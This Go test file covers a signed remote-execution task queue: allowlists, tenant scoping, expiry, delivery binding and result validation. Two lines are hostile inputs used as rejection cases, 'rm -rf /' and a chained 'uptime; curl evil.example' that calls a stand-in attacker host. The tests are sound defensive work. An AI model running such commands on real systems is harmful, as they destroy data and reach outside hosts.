package tasks

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/Mindburn-Labs/warden/pkg/sigverify"
)

type clockVar struct{ now time.Time }

func (c *clockVar) fn() func() time.Time { return func() time.Time { return c.now } }

func testQueue(opts ...QueueOption) (*Queue, *clockVar) {
	c := &clockVar{now: time.Date(2026, 2, 20, 10, 0, 0, 0, time.UTC)}
	base := []QueueOption{WithClock(c.fn())}
	q := NewQueue(sigverify.NewKeyring([]byte("master")), append(base, opts...)...)
	return q, c
}

func issueReq(c *clockVar, id string) IssueRequest {
	return IssueRequest{
		TaskID:           id,
		TenantID:         "tenant-a",
		AssetID:          "asset-1",
		IssuedBy:         "operator@example.com",
		ExecutionContext: "system",
		Interpreter:      "bash",
		CommandPayload:   "systemctl restart rsyslog",
		ExpiresAt:        c.now.Add(10 * time.Minute),
	}
}

func TestIssueSignsTask(t *testing.T) {
	q, c := testQueue()
	task, err := q.Issue(context.Background(), issueReq(c, "t1"))
	if err != nil {
		t.Fatalf("issue: %v", err)
	}
	if task.State != StatePending || task.Signature == "" {
		t.Fatalf("unexpected task: %+v", task)
	}
}

func TestIssueGuardOrder(t *testing.T) {
	ctx := context.Background()

	t.Run("execution_disabled", func(t *testing.T) {
		q, c := testQueue(WithExecutionDisabled(true))
		if _, err := q.Issue(ctx, issueReq(c, "t")); !errors.Is(err, ErrExecutionDisabled) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("tenant_execution_disabled", func(t *testing.T) {
		q, c := testQueue(WithDisabledTenants("tenant-a"))
		if _, err := q.Issue(ctx, issueReq(c, "t")); !errors.Is(err, ErrTenantExecutionDisabled) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("asset_execution_disabled", func(t *testing.T) {
		q, c := testQueue(WithDisabledAssets("asset-1"))
		if _, err := q.Issue(ctx, issueReq(c, "t")); !errors.Is(err, ErrAssetExecutionDisabled) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("payload_too_large", func(t *testing.T) {
		q, c := testQueue()
		req := issueReq(c, "t")
		req.CommandPayload = string(make([]byte, DefaultMaxPayloadBytes+1))
		if _, err := q.Issue(ctx, req); !errors.Is(err, ErrPayloadTooLarge) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("command_not_allowlisted", func(t *testing.T) {
		q, c := testQueue(WithAllowlist(`systemctl (restart|status) [a-z-]+`))
		req := issueReq(c, "t")
		req.CommandPayload = "rm -rf /"
		if _, err := q.Issue(ctx, req); !errors.Is(err, ErrCommandNotAllowlisted) {
			t.Fatalf("got %v", err)
		}
		// Allowlisted command passes.
		req.CommandPayload = "systemctl status sshd"
		if _, err := q.Issue(ctx, req); err != nil {
			t.Fatalf("allowlisted command rejected: %v", err)
		}
	})

	t.Run("allowlist_requires_full_match", func(t *testing.T) {
		q, c := testQueue(WithAllowlist(`uptime`))
		req := issueReq(c, "t")
		req.CommandPayload = "uptime; curl evil.example"
		if _, err := q.Issue(ctx, req); !errors.Is(err, ErrCommandNotAllowlisted) {
			t.Fatalf("partial match accepted: %v", err)
		}
	})

	t.Run("tenant_allowlists_do_not_leak", func(t *testing.T) {
		q, c := testQueue(
			WithTenantAllowlist("tenant-a", `uptime`),
			WithTenantAllowlist("tenant-b", `whoami`),
		)

		// tenant-a may run its own command but not tenant-b's.
		req := issueReq(c, "t1")
		req.CommandPayload = "uptime"
		if _, err := q.Issue(ctx, req); err != nil {
			t.Fatalf("tenant-a own command rejected: %v", err)
		}
		req = issueReq(c, "t2")
		req.CommandPayload = "whoami"
		if _, err := q.Issue(ctx, req); !errors.Is(err, ErrCommandNotAllowlisted) {
			t.Fatalf("tenant-b command leaked into tenant-a: %v", err)
		}

		req = issueReq(c, "t3")
		req.TenantID = "tenant-b"
		req.CommandPayload = "whoami"
		if _, err := q.Issue(ctx, req); err != nil {
			t.Fatalf("tenant-b own command rejected: %v", err)
		}
	})

	t.Run("tenant_allowlist_overrides_shared", func(t *testing.T) {
		q, c := testQueue(
			WithAllowlist(`hostname`),
			WithTenantAllowlist("tenant-a", `uptime`),
		)
		// The shared pattern does not apply once the tenant has its own list.
		req := issueReq(c, "t1")
		req.CommandPayload = "hostname"
		if _, err := q.Issue(ctx, req); !errors.Is(err, ErrCommandNotAllowlisted) {
			t.Fatalf("shared pattern applied to scoped tenant: %v", err)
		}
		// A tenant without its own list keeps the shared one.
		req = issueReq(c, "t2")
		req.TenantID = "tenant-c"
		req.CommandPayload = "hostname"
		if _, err := q.Issue(ctx, req); err != nil {
			t.Fatalf("shared allowlist rejected unscoped tenant: %v", err)
		}
	})

	t.Run("expiry_in_past", func(t *testing.T) {
		q, c := testQueue()
		req := issueReq(c, "t")
		req.ExpiresAt = c.now // expires_at == now is rejected
		if _, err := q.Issue(ctx, req); !errors.Is(err, ErrExpiryInPast) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("expiry_exceeds_max_ttl", func(t *testing.T) {
		q, c := testQueue()
		req := issueReq(c, "t")
		req.ExpiresAt = c.now.Add(DefaultMaxTTL + time.Second)
		if _, err := q.Issue(ctx, req); !errors.Is(err, ErrExpiryExceedsMaxTTL) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("invalid_execution_context", func(t *testing.T) {
		q, c := testQueue()
		req := issueReq(c, "t")
		req.ExecutionContext = "user"
		if _, err := q.Issue(ctx, req); !errors.Is(err, ErrInvalidExecutionContext) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("invalid_interpreter", func(t *testing.T) {
		q, c := testQueue()
		req := issueReq(c, "t")
		req.Interpreter = "python"
		if _, err := q.Issue(ctx, req); !errors.Is(err, ErrInvalidInterpreter) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("task_exists", func(t *testing.T) {
		q, c := testQueue()
		if _, err := q.Issue(ctx, issueReq(c, "dup")); err != nil {
			t.Fatalf("first issue: %v", err)
		}
		if _, err := q.Issue(ctx, issueReq(c, "dup")); !errors.Is(err, ErrTaskExists) {
			t.Fatalf("got %v", err)
		}
	})
}

func TestPollDeliversFIFOOncePerTask(t *testing.T) {
	q, c := testQueue()
	ctx := context.Background()

	for _, id := range []string{"t1", "t2", "t3"} {
		if _, err := q.Issue(ctx, issueReq(c, id)); err != nil {
			t.Fatalf("issue %s: %v", id, err)
		}
	}

	got := q.Poll(ctx, "tenant-a", "asset-1", "agent-a", 2)
	if len(got) != 2 || got[0].TaskID != "t1" || got[1].TaskID != "t2" {
		t.Fatalf("FIFO delivery broken: %+v", got)
	}

	// Delivered tasks are not re-delivered, even to the same agent.
	again := q.Poll(ctx, "tenant-a", "asset-1", "agent-a", 10)
	if len(again) != 1 || again[0].TaskID != "t3" {
		t.Fatalf("redelivery: %+v", again)
	}

	// A different partition sees nothing.
	if other := q.Poll(ctx, "tenant-a", "asset-2", "agent-b", 10); len(other) != 0 {
		t.Fatalf("cross-partition delivery: %+v", other)
	}
}

func TestStartRequiresDeliveryBinding(t *testing.T) {
	q, c := testQueue()
	ctx := context.Background()

	if _, err := q.Issue(ctx, issueReq(c, "t1")); err != nil {
		t.Fatalf("issue: %v", err)
	}

	// Starting before delivery fails.
	if err := q.Start(ctx, "t1", "tenant-a", "asset-1", "agent-a"); !errors.Is(err, ErrTaskNotDelivered) {
		t.Fatalf("got %v", err)
	}

	q.Poll(ctx, "tenant-a", "asset-1", "agent-a", 1)

	// A different agent cannot start the delivered task.
	if err := q.Start(ctx, "t1", "tenant-a", "asset-1", "agent-b"); !errors.Is(err, ErrTaskAgentMismatch) {
		t.Fatalf("got %v", err)
	}
	if err := q.Start(ctx, "t1", "tenant-b", "asset-1", "agent-a"); !errors.Is(err, ErrTaskScopeMismatch) {
		t.Fatalf("got %v", err)
	}
	if err := q.Start(ctx, "t1", "tenant-a", "asset-1", "agent-a"); err != nil {
		t.Fatalf("start: %v", err)
	}
}

func validResult(c *clockVar, taskID string) Result {
	started := c.now.Add(time.Minute)
	finished := started.Add(2 * time.Second)
	return Result{
		TaskID:     taskID,
		Status:     StateCompleted,
		Stdout:     "ok",
		StartedAt:  started,
		FinishedAt: finished,
		DurationMS: 2000,
	}
}

func deliverAndStart(t *testing.T, q *Queue, c *clockVar, id string) {
	t.Helper()
	ctx := context.Background()
	if _, err := q.Issue(ctx, issueReq(c, id)); err != nil {
		t.Fatalf("issue: %v", err)
	}
	q.Poll(ctx, "tenant-a", "asset-1", "agent-a", 1)
	c.now = c.now.Add(time.Minute)
	if err := q.Start(ctx, id, "tenant-a", "asset-1", "agent-a"); err != nil {
		t.Fatalf("start: %v", err)
	}
	c.now = c.now.Add(-time.Minute)
}

func TestRecordResultOnce(t *testing.T) {
	q, c := testQueue()
	ctx := context.Background()
	deliverAndStart(t, q, c, "t1")

	if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-a", validResult(c, "t1")); err != nil {
		t.Fatalf("record: %v", err)
	}
	if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-a", validResult(c, "t1")); !errors.Is(err, ErrTaskAlreadyRecorded) {
		t.Fatalf("got %v", err)
	}

	task, _ := q.Get("t1")
	if task.State != StateCompleted || task.Result == nil {
		t.Fatalf("task not completed: %+v", task)
	}
	if task.FinishedAt.Before(*task.StartedAt) || task.StartedAt.Before(task.CreatedAt) {
		t.Fatal("timing invariant violated")
	}
}

func TestRecordResultValidation(t *testing.T) {
	ctx := context.Background()

	t.Run("task_not_found", func(t *testing.T) {
		q, c := testQueue()
		if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-a", validResult(c, "nope")); !errors.Is(err, ErrTaskNotFound) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("invalid_result_status", func(t *testing.T) {
		q, c := testQueue()
		deliverAndStart(t, q, c, "t1")
		r := validResult(c, "t1")
		r.Status = "done"
		if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-a", r); !errors.Is(err, ErrInvalidResultStatus) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("duration_mismatch", func(t *testing.T) {
		q, c := testQueue()
		deliverAndStart(t, q, c, "t1")
		r := validResult(c, "t1")
		r.DurationMS = r.DurationMS + DurationSkewToleranceMS + 1
		if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-a", r); !errors.Is(err, ErrDurationMismatch) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("duration_within_tolerance_accepted", func(t *testing.T) {
		q, c := testQueue()
		deliverAndStart(t, q, c, "t1")
		r := validResult(c, "t1")
		r.DurationMS = r.DurationMS + DurationSkewToleranceMS
		if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-a", r); err != nil {
			t.Fatalf("skew at tolerance rejected: %v", err)
		}
	})

	t.Run("started_before_created", func(t *testing.T) {
		q, c := testQueue()
		deliverAndStart(t, q, c, "t1")
		r := validResult(c, "t1")
		r.StartedAt = c.now.Add(-time.Hour)
		if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-a", r); !errors.Is(err, ErrInvalidResultTiming) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("finished_before_started", func(t *testing.T) {
		q, c := testQueue()
		deliverAndStart(t, q, c, "t1")
		r := validResult(c, "t1")
		r.FinishedAt = r.StartedAt.Add(-time.Second)
		if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-a", r); !errors.Is(err, ErrInvalidResultTiming) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("stdout_too_large", func(t *testing.T) {
		q, c := testQueue()
		deliverAndStart(t, q, c, "t1")
		r := validResult(c, "t1")
		r.Stdout = string(make([]byte, DefaultMaxOutputBytes+1))
		if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-a", r); !errors.Is(err, ErrOutputTooLarge) {
			t.Fatalf("got %v", err)
		}
	})

	t.Run("agent_mismatch", func(t *testing.T) {
		q, c := testQueue()
		deliverAndStart(t, q, c, "t1")
		if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-z", validResult(c, "t1")); !errors.Is(err, ErrTaskAgentMismatch) {
			t.Fatalf("got %v", err)
		}
	})
}

func TestExpirySweepOnPollAndResult(t *testing.T) {
	q, c := testQueue()
	ctx := context.Background()

	if _, err := q.Issue(ctx, issueReq(c, "t1")); err != nil {
		t.Fatalf("issue: %v", err)
	}
	q.Poll(ctx, "tenant-a", "asset-1", "agent-a", 1)

	// Past the deadline: the poll-path sweep expires it.
	c.now = c.now.Add(11 * time.Minute)
	if got := q.Poll(ctx, "tenant-a", "asset-1", "agent-a", 10); len(got) != 0 {
		t.Fatalf("expired task delivered: %+v", got)
	}
	task, _ := q.Get("t1")
	if task.State != StateExpired || task.LastError != "expired" {
		t.Fatalf("task not expired: %+v", task)
	}

	// Result against an expired task fails with task_expired.
	r := validResult(c, "t1")
	r.StartedAt = task.CreatedAt.Add(time.Minute)
	r.FinishedAt = r.StartedAt.Add(2 * time.Second)
	if err := q.RecordResult(ctx, "tenant-a", "asset-1", "agent-a", r); !errors.Is(err, ErrTaskExpired) {
		t.Fatalf("got %v", err)
	}

	// The sweep is idempotent.
	if n := q.ExpireOverdue(ctx); n != 0 {
		t.Fatalf("second sweep expired %d tasks", n)
	}
}
